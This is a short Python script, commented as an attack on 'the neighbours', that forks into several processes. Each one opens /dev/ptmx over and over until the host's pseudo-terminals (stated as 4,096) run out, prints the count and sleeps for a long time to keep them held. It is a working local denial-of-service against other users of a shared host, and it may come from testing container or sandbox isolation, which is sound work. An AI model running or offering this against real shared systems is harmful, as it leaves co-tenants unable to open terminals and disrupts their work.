# Attacks the neighbours: takes the pseudo terminals of the whole host, of which there are 4,096.
import os
import time

for _ in range(4):
    if os.fork() == 0:
        break
taken: list[int] = []
try:
    while True:
        taken.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
except OSError:
    os.write(1, f"{len(taken)}\n".encode())
time.sleep(1e6)
